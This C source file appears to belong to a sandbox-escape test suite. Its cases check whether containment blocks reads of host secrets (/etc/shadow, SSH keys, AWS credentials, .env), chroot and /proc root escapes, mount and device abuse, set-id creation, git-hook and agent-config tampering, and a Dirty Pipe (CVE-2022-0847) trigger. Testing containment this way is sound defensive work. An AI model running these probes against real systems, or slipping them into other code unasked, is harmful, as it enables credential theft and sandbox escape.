/*
 * fs - files of the host, the mount table, devices, set-id files, and a workspace's protected
 * names; see escape.h.
 */
#include "escape.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <linux/openat2.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define GONE_LOOKS 200
#define GONE_LOOK_NS 10000000l
#define STEPS_UP 64
#define HANDLE_MAX_BYTES 128

static const char *join(const char *before, const char *path)
{
	static char joined[1024];

	(void)snprintf(joined, sizeof(joined), "%s%s", before, path);
	return joined;
}

/* ---- names of the host's files ---- */

static void read_canary(void)
{
	struct tally t = { 0 };

	tally_read(&t, canary("file"));
	tally_say(&t);
}

static void read_shadow(void)
{
	struct tally t = { 0 };

	tally_read(&t, "/etc/shadow");
	tally_read(&t, "/etc/gshadow");
	tally_read(&t, "/etc/sudoers");
	tally_read(&t, "/etc/subuid");
	tally_read(&t, "/etc/fstab");
	tally_say(&t);
}

static void read_credentials(void)
{
	struct tally t = { 0 };

	tally_read(&t, join(canary("home"), "/.ssh/id_ed25519"));
	tally_read(&t, join(canary("home"), "/.aws/credentials"));
	tally_read(&t, join(canary("home"), "/.netrc"));
	tally_say(&t);
}

static void read_home(void)
{
	struct tally t = { 0 };

	tally_read(&t, join(canary("home"), "/notes"));
	tally_say(&t);
}

static void read_through_roots(void)
{
	struct tally t = { 0 };

	tally_read(&t, join("/proc/1/root", canary("file")));
	tally_read(&t, join("/proc/self/root/../..", canary("file")));
	tally_read(&t, join("/proc/thread-self/root", canary("file")));
	tally_read(&t, join("/proc/self/cwd/../../../../../../../..", canary("file")));
	tally_read(&t, join("/proc/1/cwd/../../../../..", canary("file")));
	tally_say(&t);
}

/* Tries the root and the working directory of each visible process. */
static void read_through_processes(void)
{
	struct tally t = { 0 };
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	if (!proc)
		say_broken("no /proc");
	while ((entry = readdir(proc))) {
		char path[700];

		if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
			continue;
		for (int i = 0; i < 2; i++) {
			(void)snprintf(path, sizeof(path), "/proc/%.20s/%s%.600s", entry->d_name,
				       i ? "cwd/../../../../../../.." : "root", canary("file"));
			tally_read(&t, path);
		}
	}
	tally_say(&t);
}

static void walk_out_of_chroot(void)
{
	struct tally t = { 0 };
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	(void)mkdir(scratch("jail"), 0755);
	if (chroot(scratch("jail")) < 0)
		say_denied(errno);
	(void)fchdir(fd);
	for (int i = 0; i < STEPS_UP; i++)
		(void)chdir("..");
	(void)chroot(".");
	tally_read(&t, canary("file"));
	tally_say(&t);
}

static void walk_up(void)
{
	char path[STEPS_UP * 3 + 512] = "";
	struct tally t = { 0 };

	for (int i = 0; i < STEPS_UP; i++)
		strcat(path, "../");
	strncat(path, canary("file") + 1, 500);
	tally_read(&t, path);
	tally_read(&t, join("/..", canary("file")));
	/* step by step: a directory above the root would be the old root, or a mount on it */
	for (int i = 0; i < STEPS_UP; i++)
		(void)chdir("..");
	tally_read(&t, canary("file") + 1);
	tally_say(&t);
}

static void follow_planted_link(void)
{
	struct tally t = { 0 };
	const char *link = scratch("link");

	if (symlink(canary("file"), link) < 0)
		say_broken("symlink: %s", errno_name(errno));
	tally_read(&t, link);
	tally_write(&t, link, "x");
	(void)unlink(link);
	tally_say(&t);
}

static void read_state(void)
{
	static const char *const names[] = { "/audit.jsonl", "/network.jsonl", "/images/names",
					     "/sandboxes", "/layers" };
	struct tally t = { 0 };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		tally_result(&t, access(join(canary("state"), names[i]), F_OK),
			     "looking into our own directory");
	tally_result(&t, access(canary("binary"), F_OK), "looking at our own program");
	tally_say(&t);
}

static void read_shared_places(void)
{
	struct tally t = { 0 };

	tally_read(&t, join("/dev/shm/", canary("shm_file")));
	tally_read(&t, join("/tmp/", canary("shm_file")));
	tally_read(&t, join("/var/tmp/", canary("shm_file")));
	tally_say(&t);
}

static void read_other_owners_file(void)
{
	struct tally t = { 0 };

	tally_read(&t, join(canary("shown"), "/roots"));
	if (has_canary("usr_root"))
		tally_read(&t, canary("usr_root"));
	tally_say(&t);
}

static void read_callers_groups_file(void)
{
	struct tally t = { 0 };

	tally_read(&t, join(canary("shown"), "/groups"));
	if (has_canary("usr_groups"))
		tally_read(&t, canary("usr_groups"));
	tally_say(&t);
}

/* The runner mounts a secret there when it sees that we run, and tells us when it is done. */
static void watch_later_mount(void)
{
	struct tally t = { 0 };

	if (open(join(canary("later"), "/started"), O_WRONLY | O_CREAT, 0644) < 0)
		say_broken("cannot say that we run: %s", errno_name(errno));
	while (access(join(canary("later"), "/mounted"), F_OK) < 0)
		(void)usleep(5000);
	tally_read(&t, join(canary("later"), "/place/secret"));
	tally_say(&t);
}

/* ---- writing where only reading is allowed ---- */

static void write_programs(void)
{
	struct tally t = { 0 };

	tally_write(&t, canary("usr_open"), "x");
	tally_say(&t);
}

static void write_read_only_mount(void)
{
	struct tally t = { 0 };

	tally_write(&t, join(canary("shown_ro"), "/file"), "x");
	tally_result(&t, open(join(canary("shown_ro"), "/new"), O_WRONLY | O_CREAT, 0644),
		     "making a file in a read-only mount");
	tally_result(&t, chmod(join(canary("shown_ro"), "/file"), 0777),
		     "changing a mode in a read-only mount");
	tally_say(&t);
}

static void write_root(void)
{
	struct tally t = { 0 };

	tally_result(&t, open("/escape-new", O_WRONLY | O_CREAT, 0644), "making a file in /");
	tally_result(&t, mkdir("/var/escape-new", 0755), "making a directory in /var");
	tally_say(&t);
}

static void write_stdin_file(void)
{
	struct tally t = { 0 };
	struct stat st;
	int fd;

	(void)canary("stdin_file");
	if (fstat(0, &st) < 0)
		say_broken("no stdin");
	if (!S_ISREG(st.st_mode))
		say_denied_as("no file");
	tally_result(&t, write(0, "x", 1), "writing to stdin");
	fd = open("/proc/self/fd/0", O_WRONLY);
	tally_result(&t, fd < 0 ? fd : write(fd, "x", 1), "opening stdin anew for writing");
	tally_result(&t, truncate("/proc/self/fd/0", 0), "cutting off stdin's file");
	tally_result(&t, open("/proc/self/fd/0", O_RDONLY | O_TRUNC), "cutting it off by reading");
	tally_result(&t, open("/proc/self/fd/0", 3 | O_TRUNC), "cutting it off by neither");
	tally_say(&t);
}

/* CVE-2022-0847: a pipe whose buffer is still marked as mergeable. */
static void dirty_pipe(void)
{
	const char *path = join(canary("shown_ro"), "/file");
	int fd = open(path, O_RDONLY), ends[2];
	char before[8] = "", after[8] = "", page[4096];
	long size;

	memset(page, 'p', sizeof(page));
	if (fd < 0 || pipe(ends) < 0 || pread(fd, before, 4, 0) != 4)
		say_broken("cannot read the file: %s", errno_name(errno));
	size = fcntl(ends[1], F_GETPIPE_SZ);
	for (long n = 0; n < size; n += (long)sizeof(page))
		if (write(ends[1], page, sizeof(page)) < 0)
			say_broken("cannot fill the pipe");
	for (long n = 0; n < size; n += (long)sizeof(page))
		if (read(ends[0], page, sizeof(page)) < 0)
			say_broken("cannot empty the pipe");
	if (splice(fd, &(loff_t){ 0 }, ends[1], NULL, 1, 0) != 1)
		say_broken("splice: %s", errno_name(errno));
	if (write(ends[1], "XXX", 3) != 3)
		say_broken("write: %s", errno_name(errno));
	if (pread(fd, after, 4, 0) != 4 || memcmp(before, after, 4) != 0)
		say_escaped("a read-only file has changed");
	say_denied_as("unchanged");
}

/* ---- the mount table ---- */

static void mount_tmpfs(void)
{
	(void)mkdir(scratch("mnt"), 0755);
	say_result(mount("none", scratch("mnt"), "tmpfs", 0, NULL), "mounting a tmpfs");
}

static void mount_bind(void)
{
	(void)mkdir(scratch("mnt"), 0755);
	say_result(mount("/", scratch("mnt"), NULL, MS_BIND | MS_REC, NULL), "a bind mount");
}

static void mount_move(void)
{
	(void)mkdir(scratch("mnt"), 0755);
	say_result(mount("/dev/shm", scratch("mnt"), NULL, MS_MOVE, NULL), "moving a mount");
}

static void mount_shared(void)
{
	say_result(mount(NULL, "/", NULL, MS_SHARED, NULL), "making the root shared");
}

static void mount_remount(void)
{
	struct tally t = { 0 };

	tally_result(&t, mount(NULL, "/proc", NULL, MS_REMOUNT | MS_BIND, NULL),
		     "remounting /proc writable");
	tally_result(&t, mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL), "remounting /");
	tally_say(&t);
}

static void mount_proc(void)
{
	(void)mkdir(scratch("mnt"), 0755);
	say_result(mount("proc", scratch("mnt"), "proc", 0, NULL), "mounting another /proc");
}

static void unmount_mask(void)
{
	struct tally t = { 0 };

	/* detached, so that a success outside does no harm */
	(void)mkdir(scratch("mnt"), 0755);
	(void)mount("none", scratch("mnt"), "tmpfs", 0, NULL);
	tally_result(&t, umount2(scratch("mnt"), MNT_DETACH), "unmounting");
	tally_result(&t, syscall(SYS_umount2, "/proc/kallsyms", MNT_DETACH), "unmounting a mask");
	tally_say(&t);
}

static void pivot(void)
{
	struct tally t = { 0 };

	(void)mkdir(scratch("mnt"), 0755);
	/* not a mount point: EINVAL comes after the privilege check */
	if (syscall(SYS_pivot_root, scratch("mnt"), scratch("mnt")) == 0 || errno != EPERM)
		say_escaped("pivot_root is answered: %s", errno_name(errno));
	tally_error(&t, errno);
	tally_say(&t);
}

static void new_mount_calls(void)
{
	struct tally t = { 0 };
	const struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	long fd;

	fd = syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE);
	tally_result(&t, fd, "open_tree");
	tally_result(&t, syscall(SYS_mount_setattr, AT_FDCWD, "/proc", 0, &attr, sizeof(attr)),
		     "mount_setattr");
	tally_result(&t, syscall(SYS_move_mount, AT_FDCWD, "/dev/shm", AT_FDCWD, scratch("mnt"), 0),
		     "move_mount");
	tally_result(&t, syscall(SYS_fspick, AT_FDCWD, "/", 0), "fspick");
	tally_say(&t);
}

/* CVE-2022-0185: a heap overflow in fsconfig(). Reaching the call is the escape. */
static void fsconfig_entry(void)
{
	struct tally t = { 0 };
	long fd = syscall(SYS_fsopen, "tmpfs", 0);

	if (fd >= 0 && syscall(SYS_fsconfig, fd, FSCONFIG_SET_STRING, "size", "1m", 0) == 0)
		say_escaped("fsopen and fsconfig work");
	tally_error(&t, errno);
	if (syscall(SYS_fsconfig, -1, FSCONFIG_SET_STRING, "a", "b", 0) < 0 && errno != EPERM)
		say_escaped("fsconfig is answered: %s", errno_name(errno));
	tally_error(&t, errno);
	tally_say(&t);
}

static void mount_fuse(void)
{
	struct tally t = { 0 };
	int fd = open("/dev/fuse", O_RDWR);

	if (fd >= 0)
		say_escaped("/dev/fuse opens");
	tally_error(&t, errno);
	(void)mkdir(scratch("mnt"), 0755);
	tally_result(&t,
		     mount("fuse", scratch("mnt"), "fuse", 0,
			   "fd=9,rootmode=40000,user_id=0,group_id=0"),
		     "mounting fuse");
	tally_say(&t);
}

/* Opens the root of a file system by its inode number, like the "shocker" exploit. */
static void open_by_handle(void)
{
	struct {
		struct file_handle handle;
		unsigned char bytes[HANDLE_MAX_BYTES];
	} h = { .handle = { .handle_bytes = HANDLE_MAX_BYTES } };
	struct tally t = { 0 };
	int mount_id, mount_fd = open("/", O_RDONLY | O_DIRECTORY);

	if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h.handle, &mount_id, 0) < 0) {
		h.handle.handle_bytes = 8;
		h.handle.handle_type = 1;
	}
	tally_result(&t, syscall(SYS_open_by_handle_at, mount_fd, &h.handle, O_RDONLY),
		     "open_by_handle_at");
	tally_say(&t);
}

/* ---- devices ---- */

static void make_device(void)
{
	struct tally t = { 0 };

	tally_result(&t, mknod(scratch("disk"), S_IFBLK | 0666, makedev(7, 0)),
		     "making a block device");
	tally_result(&t, mknod(scratch("mem"), S_IFCHR | 0666, makedev(1, 11)),
		     "making a character device");
	tally_say(&t);
}

static void open_planted_device(void)
{
	struct tally t = { 0 };

	tally_read(&t, canary("device"));
	tally_say(&t);
}

static void open_devices(void)
{
	static const char *const names[] = {
		"mem",           "kmem",        "port",         "kmsg",
		"kvm",           "loop0",       "loop-control", "mapper/control",
		"dri/card0",     "vhost-net",   "vhost-vsock",  "uinput",
		"input/event0",  "snd/control", "console",      "tty0",
		"tty1",          "vcs",         "hwrng",        "rtc0",
		"hpet",          "net/tun",     "cpu/0/msr",    "autofs",
		"btrfs-control", "sda",         "vda",          "nvme0n1",
		"userfaultfd",   "vfio/vfio",   "watchdog",     "ppp",
		"cuse",          "binder",      "ashmem",       "nvidiactl",
	};
	struct tally t = { 0 };
	char path[64];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		(void)snprintf(path, sizeof(path), "/dev/%s", names[i]);
		tally_result(&t, open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY), path);
	}
	tally_say(&t);
}

static void list_devices(void)
{
	static const char known[] =
		" . .. fd full mqueue null ptmx pts random shm stderr stdin stdout tty "
		"urandom zero ";
	DIR *dev = opendir("/dev");
	struct dirent *entry;

	if (!dev)
		say_broken("no /dev");
	while ((entry = readdir(dev))) {
		char word[300];

		(void)snprintf(word, sizeof(word), " %s ", entry->d_name);
		if (!strstr(known, word))
			say_escaped("there is /dev/%.40s", entry->d_name);
	}
	say_denied_as("the harmless six");
}

/* CVE-2025-31133, CVE-2025-52565: a later start mounts or opens these names. */
static void replace_devices(void)
{
	static const char *const names[] = { "/dev/null", "/dev/pts", "/dev/tty" };
	struct tally t = { 0 };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		if (has_canary("outside")) /* outside nothing is removed */
			say_escaped("/dev is there to be changed");
		tally_result(&t, unlink(names[i]), names[i]);
		tally_result(&t, rename(names[i], "/dev/escape-old"), names[i]);
	}
	tally_result(&t, rename("/proc", "/escape-old"), "moving /proc aside");
	tally_say(&t);
}

/* ---- set-id files and file capabilities that would take effect outside ---- */

static const char *make_tool(const char *name)
{
	static char path[512];
	int fd;

	(void)snprintf(path, sizeof(path), "%s/%s", canary("work"), name);
	fd = open(path, O_WRONLY | O_CREAT, 0755);
	if (fd < 0)
		say_broken("no file in the workspace: %s", errno_name(errno));
	(void)close(fd);
	return path;
}

static void set_id_chmod(void)
{
	const char *path = make_tool("set-id-chmod");
	struct tally t = { 0 };

	tally_result(&t, chmod(path, 04755), "chmod u+s");
	tally_result(&t, chmod(path, 02755), "chmod g+s");
	tally_result(&t, fchmod(open(path, O_RDONLY), 06755), "fchmod");
	tally_result(&t, fchmodat(AT_FDCWD, path, 04755, 0), "fchmodat");
	tally_result(&t, syscall(452, AT_FDCWD, path, 04755, 0), "fchmodat2");
	tally_say(&t);
}

static void set_id_high_bits(void)
{
	const char *path = make_tool("set-id-high");

	say_result(syscall(SYS_fchmodat, AT_FDCWD, path, 0xdead0000000009edul),
		   "chmod with a high half");
}

static void set_id_create(void)
{
	struct tally t = { 0 };
	char path[512];
	int fd;

	(void)snprintf(path, sizeof(path), "%s/set-id-create", canary("work"));
	(void)unlink(path);
	tally_result(&t, open(path, O_WRONLY | O_CREAT, 04755), "creating with u+s");
	(void)unlink(path);
	tally_result(&t, creat(path, 02755), "creat with g+s");
	tally_result(&t, mknod(path, S_IFREG | 04755, 0), "mknod with u+s");
	(void)unlink(path);
	fd = open(canary("work"), O_TMPFILE | O_WRONLY, 04755);
	tally_result(&t, fd, "O_TMPFILE with u+s");
	tally_say(&t);
}

static void set_id_openat2(void)
{
	const struct open_how how = { .flags = O_WRONLY | O_CREAT, .mode = 04755 };
	char path[512];
	struct stat st;
	long fd;

	(void)snprintf(path, sizeof(path), "%s/set-id-openat2", canary("work"));
	(void)unlink(path);
	fd = syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how));
	if (fd >= 0 && (stat(path, &st) < 0 || !(st.st_mode & S_ISUID)))
		say_denied_as("no bits");
	say_result(fd, "openat2 with u+s");
}

static void set_id_link(void)
{
	static const char *const programs[] = { "/usr/bin/su", "/usr/bin/passwd", "/bin/busybox" };
	struct tally t = { 0 };
	char path[512];

	(void)snprintf(path, sizeof(path), "%s/set-id-link", canary("work"));
	for (size_t i = 0; i < sizeof(programs) / sizeof(programs[0]); i++) {
		(void)unlink(path);
		tally_result(&t, link(programs[i], path), programs[i]);
	}
	tally_say(&t);
}

static void file_capability(void)
{
	const uint32_t capability[5] = { 0x02000001, 1u << 7, 0, 0, 0 }; /* cap_setuid=ep */
	const char *path = make_tool("capable");

	say_result(setxattr(path, "security.capability", capability, sizeof(capability), 0),
		   "a file capability");
}

/* ---- protected names in a workspace ---- */

static void write_protected(void)
{
	static const char *const names[] = {
		"/.git/hooks/pre-commit", "/.git/config", "/.gitmodules",
		"/.vscode/settings.json", "/.mcp.json",   "/opencode.json"
	};
	struct tally t = { 0 };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		tally_write(&t, join(canary("work"), names[i]), "evil\n");
	tally_result(
		&t, open(join(canary("work"), "/.git/hooks/post-commit"), O_WRONLY | O_CREAT, 0755),
		"making a hook");
	tally_say(&t);
}

static void move_protected(void)
{
	char from[512], to[512];
	struct tally t = { 0 };

	(void)snprintf(to, sizeof(to), "%s/aside", canary("work"));
	for (int i = 0; i < 3; i++) {
		(void)snprintf(from, sizeof(from), "%s/%s", canary("work"),
			       i == 0   ? ".git"
			       : i == 1 ? ".git/hooks"
					: ".vscode");
		tally_result(&t, rename(from, to), from);
		tally_result(&t,
			     syscall(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, canary("work"), 2),
			     "exchanging it");
	}
	tally_say(&t);
}

/* A process outside moves new protected names away within a moment. */
static bool is_gone_soon(const char *path)
{
	const struct timespec pause = { .tv_nsec = GONE_LOOK_NS };
	struct stat st;

	for (int i = 0; i < GONE_LOOKS; i++) {
		if (lstat(path, &st) < 0)
			return true;
		(void)nanosleep(&pause, NULL);
	}
	return false;
}

static void make_protected(void)
{
	static const char *const names[] = { "/.idea", "/.claude" };
	struct tally t = { 0 };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		const char *path = join(canary("work"), names[i]);
		long r = i == 0 ? mkdir(path, 0755) : symlink("made", path);

		if (r == 0 && is_gone_soon(path))
			tally_add(&t, "moved away");
		else
			tally_result(&t, r, names[i]);
	}
	tally_say(&t);
}

static void read_masked(void)
{
	char from[512], to[512];
	struct tally t = { 0 };

	(void)snprintf(from, sizeof(from), "%s/.env", canary("work"));
	(void)snprintf(to, sizeof(to), "%s/env-link", canary("work"));
	tally_read(&t, from);
	tally_result(&t, link(from, to), "a hard link to a masked file");
	tally_result(&t, rename(from, to), "moving a mask aside");
	tally_result(&t, unlink(from), "removing a mask");
	tally_say(&t);
}

const struct escape_case cases_fs[] = {
	{ "FS01a", "read a file of the host by its path", "mount namespace", "ENOENT",
	  read_canary },
	{ "FS01b", "read /etc/shadow and its like", "filtered /etc, image", "ENOENT", read_shadow },
	{ "FS01c", "read keys in the caller's home", "mount namespace, credential masks",
	  "ENOENT|empty|EACCES", read_credentials },
	{ "FS01d", "read a plain file of the caller's home", "mount namespace", "ENOENT",
	  read_home },
	{ "FS02a", "read a file of the host through /proc/*/root and cwd of our own",
	  "pivot, /proc", "ENOENT|EACCES", read_through_roots },
	{ "FS02b", "read it through root and cwd of every visible process",
	  "pid namespace, hidden init", "ENOENT|EACCES", read_through_processes },
	{ "FS03a", "leave a chroot by a kept descriptor, then read it",
	  "pivot; restrictive: seccomp", "ENOENT|EPERM", walk_out_of_chroot },
	{ "FS03b", "walk .. beyond the root, by path and step by step", "old root let go", "ENOENT",
	  walk_up },
	{ "FS04a", "mount a tmpfs", "seccomp, capabilities, Landlock", "EPERM", mount_tmpfs },
	{ "FS04b", "bind the root elsewhere", "seccomp, capabilities, Landlock", "EPERM",
	  mount_bind },
	{ "FS04c", "move a mount", "seccomp, capabilities, Landlock", "EPERM", mount_move },
	{ "FS04d", "make mounts propagate", "seccomp, capabilities, Landlock", "EPERM",
	  mount_shared },
	{ "FS04e", "pivot_root", "seccomp, capabilities, Landlock", "EPERM", pivot },
	{ "FS04f", "open_tree, mount_setattr, move_mount, fspick",
	  "seccomp, capabilities, Landlock", "EPERM", new_mount_calls },
	{ "FS04g", "fsopen and fsconfig (CVE-2022-0185)", "seccomp, capabilities", "EPERM",
	  fsconfig_entry },
	{ "FS04h", "mount another /proc", "seccomp, capabilities, Landlock", "EPERM", mount_proc },
	{ "FS04i", "unmount a mask", "seccomp, capabilities, Landlock", "EPERM", unmount_mask },
	{ "FS05a", "write a program of the host that anyone may write", "read-only binds",
	  "EROFS|ENOENT", write_programs },
	{ "FS05b", "write, make and change files in a read-only mount", "read-only binds",
	  "EROFS|EACCES", write_read_only_mount },
	{ "FS06", "remount read-only mounts writable", "seccomp, capabilities, Landlock", "EPERM",
	  mount_remount },
	{ "FS07", "make files in / and /var", "read-only root, Landlock", "EROFS|EACCES",
	  write_root },
	{ "FS08", "follow a link of our own to a file of the host", "mount namespace", "ENOENT",
	  follow_planted_link },
	{ "FS13", "open a file by its handle (shocker)", "seccomp, capabilities", "EPERM",
	  open_by_handle },
	{ "FS14a", "make device nodes", "user namespace, capabilities", "EPERM", make_device },
	{ "FS14b", "open a device node that lies in a shown directory", "nodev", "EACCES",
	  open_planted_device },
	{ "FS15a", "set-id bits in a directory of the host, by every chmod",
	  "set-id refusal (seccomp)", "EPERM", set_id_chmod },
	{ "FS15b", "the same with rubbish in the argument's high half", "set-id refusal (seccomp)",
	  "EPERM", set_id_high_bits },
	{ "FS15c", "create a file with set-id bits there", "set-id refusal (seccomp)", "EPERM",
	  set_id_create },
	{ "FS15d", "the same by openat2, whose mode lies behind a pointer",
	  "set-id refusal (seccomp)", "ENOSYS", set_id_openat2 },
	{ "FS15e", "link a set-id program into it", "separate mounts", "EXDEV|ENOENT",
	  set_id_link },
	{ "FS15f", "give a file there a capability", "capabilities, user namespace", "EPERM",
	  file_capability },
	{ "FS16a", "write git's hooks and configuration, editor and agent settings",
	  "workspace protection", "EROFS|EACCES", write_protected },
	{ "FS16b", "move .git, its hooks or .vscode aside", "workspace protection",
	  "EBUSY|EXDEV|EROFS|EACCES|EINVAL", move_protected },
	{ "FS18", "make settings that are not there yet", "workspace protection",
	  "moved away|EROFS|EACCES", make_protected },
	{ "FS19", "read a masked .env: itself, by hard link, moved aside", "workspace masks",
	  "empty|EXDEV|EBUSY|EACCES|EPERM|EROFS", read_masked },
	{ "FS22a", "open the host's devices", "own /dev", "ENOENT", open_devices },
	{ "FS22b", "find a device that is not harmless", "own /dev", "the harmless six",
	  list_devices },
	{ "FS23", "read files in the host's /dev/shm, /tmp and /var/tmp", "mount namespace",
	  "ENOENT", read_shared_places },
	{ "FS25", "open and mount FUSE", "own /dev; seccomp, capabilities", "ENOENT|EPERM",
	  mount_fuse },
	{ "FS28", "look at sandboxes, images, logs and our program", "mount namespace", "ENOENT",
	  read_state },
	{ "FS31", "read a file of another owner in a shown directory", "user namespace", "EACCES",
	  read_other_owners_file },
	{ "FS32", "read a file there that only the caller's groups may read", "groups dropped",
	  "EACCES", read_callers_groups_file },
	{ "FS33", "write to the file that is our stdin", "Landlock files",
	  "EBADF|EACCES|EPERM|no file", write_stdin_file },
	{ "FS34", "see what is mounted in a shown directory later", "private propagation", "ENOENT",
	  watch_later_mount, CASE_ALONE },
	{ "PR06",
	  "take /dev/null, /dev/pts, /proc away for later starts (CVE-2025-31133, -52565, -52881)",
	  "mounts cannot be removed", "EBUSY|EACCES|EISDIR|EPERM|EROFS", replace_devices },
	{ "NS30", "change a read-only file by splice (Dirty Pipe, CVE-2022-0847)", "kernel",
	  "unchanged", dirty_pipe },
	{ 0 },
};
